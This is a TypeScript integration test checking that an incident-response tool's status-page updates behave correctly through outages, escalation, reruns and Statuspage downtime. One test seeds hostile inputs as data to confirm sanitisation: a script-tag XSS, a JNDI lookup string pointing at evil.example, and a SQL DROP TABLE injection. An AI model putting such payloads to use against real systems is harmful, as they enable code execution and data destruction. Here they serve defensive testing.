/**
 * The status page follows the run, end to end: the real ASL and handlers against moto, the local
 * Jira and the local Statuspage (which refuses what the real API refuses, including requests less
 * than a second apart). Outage → updates → resolved; escalated stays open for the person who takes
 * over; a rerun of Close adds nothing; Statuspage down never costs the ticket or the notification,
 * and the outbox drainer publishes later. Nothing from the alarm or the host reaches the page.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { handler as closeHandler } from '../functions/close.ts';
import { handler as drainHandler } from '../functions/drain-outbox.ts';
import { LOCAL_STATUSPAGE_COMPONENTS } from '../local/simulate.ts';
import { type LocalStatusPage, startStatusPageServer } from '../local/statuspage-server.ts';
import { HANDED_OVER_TEXT, OPENED_TEXT, RESOLVED_TEXT, STEP_TEXT } from '../shared/policy/statuspage.ts';
import { scheduledEvent } from './support/aws-events.ts';
import { startWorld, type World } from './support/world.ts';

let w: World;
let page: LocalStatusPage;

beforeAll(async () => {
  page = await startStatusPageServer({ components: { ...LOCAL_STATUSPAGE_COMPONENTS } });
  w = await startWorld({
    MEDIC_STATUSPAGE_URL: page.baseUrl,
    MEDIC_STATUSPAGE_PAGE_ID: page.pageId,
    MEDIC_STATUSPAGE_KEY: page.apiKey,
  });
}, 120_000);
afterAll(async () => {
  await w?.stop();
  await page?.close();
});
beforeEach(async () => {
  page.setFaults({});
  await w.reset();
});

const context = { getRemainingTimeInMillis: () => 50_000, functionName: 'medic-test' } as never;
const updatesOf = (incidentId: string | null | undefined) =>
  [...(page.incidents().find((i) => i.id === incidentId)?.incident_updates ?? [])].reverse();

describe('the status page follows the run', () => {
  it('outage → "restarting the affected server" → resolved and operational; hostile text stays out; a rerun of Close adds nothing', async () => {
    // Prepare: the unreachable web server (tagged with the Website component), with hostile text
    // in its Name tag and in the alarm
    const hostile = ['<script>alert(1)</script>', '${jndi:ldap://evil.example/x}', "'; DROP TABLE users; --"];
    const seeded = await w.seed('unreachable');
    await w.tag(seeded.instanceId, 'Name', `web-1 ${hostile[0]}`);
    const alarmName = `web-1 ${hostile[1]}`;
    const event = JSON.parse(
      JSON.stringify(seeded.event)
        .replaceAll('web-1 status check failed', alarmName)
        .replace('Threshold Crossed:', `Threshold Crossed: ${hostile[2]}`),
    );
    const requestsBefore = page.requests().length;
    // Act
    const run = await w.run(event);
    const sent = page.requests().slice(requestsBefore);
    // Assess: the run, the incident, the component
    expect(run.status, JSON.stringify(run.error)).toBe('SUCCEEDED');
    expect(run.state?.outcome).toBe('resolved');
    const told = run.state?.statusPage;
    expect(told?.status).toBe('resolved');
    expect(page.incidents()).toHaveLength(1);
    expect(updatesOf(told?.incidentId).map((u) => [u.status, u.body])).toEqual([
      ['investigating', OPENED_TEXT.outage],
      ['identified', STEP_TEXT.reboot],
      ['resolved', RESOLVED_TEXT],
    ]);
    expect(page.componentHistory().map((h) => [h.componentId, h.status])).toEqual([
      ['simwebsite01', 'major_outage'],
      ['simwebsite01', 'operational'],
    ]);
    expect(sent.filter((r) => r.refused)).toEqual([]);
    const wire = JSON.stringify(sent.map((r) => r.body));
    for (const text of [...hostile, seeded.instanceId, alarmName, '127.0.0.1', 'web-1'])
      expect(wire).not.toContain(text);

    // Act: Close delivered again (Step Functions retries a Task whose answer was lost)
    const rerunBefore = page.requests().length;
    const again = await closeHandler({ state: run.state, executionName: run.state?.incidentId }, context);
    const rerun = page.requests().slice(rerunBefore);
    // Assess
    expect((again as { statusPage?: unknown }).statusPage).toEqual({
      incidentId: told?.incidentId,
      status: 'resolved',
    });
    expect(page.incidents()).toHaveLength(1);
    expect(rerun.filter((r) => r.method !== 'GET')).toEqual([]);
    expect(updatesOf(told?.incidentId)).toHaveLength(3);
  }, 240_000);

  it('escalated: the incident stays open, the component stays down, the last update is for whoever takes over', async () => {
    // Prepare: a host that nothing medic may do brings back
    const seeded = await w.seed('reboot-does-not-help');
    await w.tag(seeded.instanceId, 'medic:statuspage-component', 'simdatabase1');
    // Act
    const run = await w.run(seeded.event);
    // Assess
    expect(run.status, JSON.stringify(run.error)).toBe('SUCCEEDED');
    expect(run.state?.outcome).toBe('escalated');
    const incident = page.incidents().find((i) => i.id === run.state?.statusPage?.incidentId);
    expect(incident?.status).toBe('identified');
    expect(incident?.resolved_at).toBeNull();
    expect(updatesOf(incident?.id).at(0)?.body).toBe(OPENED_TEXT.outage);
    expect(updatesOf(incident?.id).at(-1)).toMatchObject({ status: 'identified', body: HANDED_OVER_TEXT });
    expect(page.components().simdatabase1).toBe('major_outage');
  }, 300_000);

  it('Statuspage down: the run still ends with its ticket and notification; the drainer publishes from the outbox', async () => {
    // Prepare
    page.setFaults({ status: 503 });
    const seeded = await w.seed('unreachable');
    const incidentsBefore = page.incidents().length;
    // Act
    const run = await w.run(seeded.event);
    // Assess: nothing lost, nothing blocked
    expect(run.status, JSON.stringify(run.error)).toBe('SUCCEEDED');
    expect(run.state?.outcome).toBe('resolved');
    expect(run.state?.ticket?.key).toMatch(/^OPS-\d+$/);
    expect((await w.inbox()).some((m) => /^\[medic\] RESOLVED/.test(m.subject))).toBe(true);
    expect(run.state?.statusPage).toEqual({ incidentId: null, status: 'queued' });
    // The Reboot step tried first, after rebooting, and went on without the page
    const rebootLine = run.state?.cases?.[0]?.timeline.find((e) => e.step === 'Reboot' && e.kind === 'error');
    expect(rebootLine?.summary).toMatch(/^could not update the status page .*waits in the outbox$/);
    expect(await w.safetyItems('STATUSPAGE')).toHaveLength(1);
    expect(page.incidents()).toHaveLength(incidentsBefore);

    // Act: Statuspage is back; the scheduled drain runs
    page.setFaults({});
    const drained = (await drainHandler(scheduledEvent('medic-test-drain-outbox'), context)) as {
      statusPage?: { published: { incidentId: string; status: string }[] };
    };
    // Assess
    expect(drained.statusPage?.published).toHaveLength(1);
    expect(drained.statusPage?.published[0]?.status).toBe('resolved');
    expect(await w.safetyItems('STATUSPAGE')).toHaveLength(0);
    const published = drained.statusPage?.published[0]?.incidentId;
    expect(updatesOf(published).map((u) => u.status)).toEqual(['investigating', 'identified', 'resolved']);
    expect(page.components().simwebsite01).toBe('operational');
  }, 240_000);
});
